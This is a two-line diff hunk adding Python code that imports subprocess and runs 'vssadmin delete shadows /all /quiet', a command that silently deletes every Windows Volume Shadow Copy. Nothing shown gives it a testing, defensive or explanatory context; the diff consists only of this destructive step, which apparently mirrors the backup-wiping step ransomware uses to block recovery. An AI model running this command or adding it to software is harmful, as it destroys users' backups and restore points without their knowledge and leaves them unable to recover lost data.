@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run(["vssadmin", "delete", "shadows", "/all", "/quiet"])
